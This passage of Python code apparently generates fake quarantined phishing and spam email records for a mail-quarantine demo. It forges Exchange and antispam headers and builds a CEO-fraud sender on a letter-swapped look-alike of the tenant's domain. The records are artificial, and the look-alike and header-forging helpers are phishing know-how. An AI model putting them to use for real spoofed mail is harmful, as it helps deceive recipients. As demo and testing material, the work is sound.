                     f" bh={_fake_b64(story.key + 'bh', 44)};\r\n b={_fake_b64(story.key + 'b', 172)}")
    lines += [
        f"From: {_mailbox(s.name, sender)}",
        "To: " + ", ".join(_mailbox(names.get(a, a.split("@")[0]), a) for a in to),
        _subject_header(story.subject),
        f"Date: {format_datetime(sent)}",
        f"Message-ID: {message_id}",
    ]
    if story.reply_to:
        lines.append(f"Reply-To: <{story.reply_to}>")
    lines += [
        f"Return-Path: {bounce}",
        "MIME-Version: 1.0",
        f"Content-Type: {content_type}",
        "X-MS-Exchange-Organization-ExpirationStartTime: " + received.strftime("%d %b %Y %H:%M:%S.%f")[:-3]
        + " (UTC)",
        f"X-MS-Exchange-Organization-Network-Message-Id: {network_id}",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-MS-Exchange-Organization-AuthSource: {_FRONTEND}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        f"X-Forefront-Antispam-Report: CIP:{s.ip};CTRY:{s.country};LANG:en;SCL:{scl};SRV:;IPV:NLI;"
        f"SFV:SPM;\r\n H:mail.{bounce_domain};PTR:mail.{bounce_domain};CAT:{cat};"
        "SFS:(13230040)(4022899009)(8096899003)(69100299015);DIR:INB;",
        f"X-Microsoft-Antispam: BCL:{7 if story.qtype == 'Bulk' else 0};ARA:13230040|4022899009|8096899003;",
        f"X-Microsoft-Antispam-Message-Info:\r\n {_fake_b64(story.key + 'mi', 76)}\r\n"
        f" {_fake_b64(story.key + 'mi2', 76)}",
        "X-MS-Exchange-CrossTenant-OriginalArrivalTime: "
        + received.strftime("%d %b %Y %H:%M:%S.%f")[:-2] + " (UTC)",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {network_id}",
        f"X-MS-Exchange-CrossTenant-Id: {DEMO_TENANT_ID}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
    ]
    return "\r\n".join(lines) + "\r\n"


# --- Records --------------------------------------------------------------------------------------------
def _lookalike_of(domain: str) -> str:
    """The tenant's own domain with one letter swapped for a look-alike ("northwind" -> "northwlnd")."""
    name, _, rest = domain.partition(".")
    for real, fake in (("i", "l"), ("o", "0"), ("m", "rn"), ("e", "3"), ("a", "4")):
        if real in name:
            return name.replace(real, fake, 1) + ("." + rest if rest else "")
    return name + "-mail." + rest if rest else name + "-mail"


def _display_names(domain: str) -> dict[str, str]:
    return {f"alice@{domain}": "Alice Moreau", f"bob@{domain}": "Bob Okafor",
            f"it-admin@{domain}": "Priya Shah (IT)", f"accounts@{domain}": "Accounts payable"}


def _record(story: _Story, domain: str, now: dt.datetime) -> dict[str, Any]:
    lookalike = _lookalike_of(domain)
    sender = story.sender.format(lookalike=lookalike)
    # The CEO-fraud sender lives on a look-alike of the tenant's own domain, so it is built here.
    s = _SENDERS.get(story.sender) or _Sender(sender, "Marc Laurent (CEO)", "198.51.100.99", "RU",
                                              auth="fail")
    to = [f"{local}@{domain}" for local in story.to]
    subject = story.subject.format(domain=domain) if "{domain}" in story.subject else story.subject
    story = _Story(**{**story.__dict__, "subject": subject})
    received = (now - dt.timedelta(hours=story.hours_ago)).replace(microsecond=0) \
        + dt.timedelta(microseconds=int(hashlib.sha256(story.key.encode()).hexdigest()[:5], 16) % 999_983)
    network_id = str(uuid.uuid5(_NS, story.key + "/network"))
    message_id = f"<{uuid.uuid5(_NS, story.key + '/msgid').hex[:24].upper()}@{sender.rsplit('@', 1)[1]}>"

    is_html, paragraphs, links = _BODIES[story.body]
    fill = {"domain": domain, "to": to[0], "key": story.key}
    paragraphs = tuple(p.format(**fill) if "{" in p and "<script" not in p else p for p in paragraphs)
    links = tuple((t, h.format(**fill) if "{" in h else h) for t, h in links)
    if is_html:
        body = _html_body(paragraphs, links, sender, story.key)
    else:
        body = "\r\n\r\n".join(paragraphs) + "\r\n"
    attachments = [dict(_ATTACHMENTS[a]) for a in story.attachments]
    boundary = f"_000_{uuid.uuid5(_NS, story.key + '/b').hex[:20]}_"
    if attachments:
        content_type = f'multipart/mixed;\r\n boundary="{boundary}"'
    elif is_html:
        content_type = f'multipart/alternative;\r\n boundary="{boundary}"'
    else:
        content_type = 'text/plain; charset="utf-8"'
    header = _header_block(story, s, sender, to, _display_names(domain), received, message_id, network_id,
                           content_type)
    # Base64 grows attachments by a third; bodies usually travel twice (text and HTML parts).
    size = len(header.encode()) + 2 * len(body.encode()) + sum(a["size"] * 4 // 3 for a in attachments)

    released = story.status == "RELEASED"
    released_by = (["System released"] if story.system_released else [to[0]]) if released else []
    return {
        "Identity": story_identity(story.key),
        "ReceivedTime": received,
        "Organization": DEMO_TENANT_ID,
        "MessageId": message_id,
        "SenderAddress": sender,
        "RecipientAddress": to,
        "Subject": subject,
        "Size": size,
        "Type": _TYPE_DISPLAY[story.qtype],
        "PolicyType": _POLICY_TYPE.get(story.qtype, "HostedContentFilterPolicy"),
        "PolicyName": story.policy_name,
        "TagName": story.tag,
        "Released": released,
        "ReleaseStatus": story.status,
        "SystemReleased": story.system_released,
        "RecipientCount": len(to),
        "QuarantineTypes": story.qtype,
        "Expires": received + dt.timedelta(days=story.retention_days),
        "RecipientTag": ["Priority Account"] if "it-admin" in story.to else [""],
        "DeletedForRecipients": [],
        "QuarantinedUser": [],
        "ReleasedUser": list(to) if released else [],
        "ReleasedBy": released_by,
        "ReleasedCount": len(to) if released else 0,
        "Reported": False,
        "Direction": "Inbound",
        "EntityType": "Email",
        "_header": header,
        "_body": body,
        "_is_html": is_html,
        "_attachments": attachments,
        "_cc": [],
    }


def seed_messages(domain: str, now: dt.datetime) -> list[dict[str, Any]]:
    """The demo story as wire-form records (plus private "_" keys), newest first, times relative to `now`."""
    if now.tzinfo is None:
        now = now.replace(tzinfo=dt.UTC)
    records = [_record(story, domain.lower(), now) for story in _STORIES]
    records.sort(key=lambda r: r["ReceivedTime"], reverse=True)
    return records
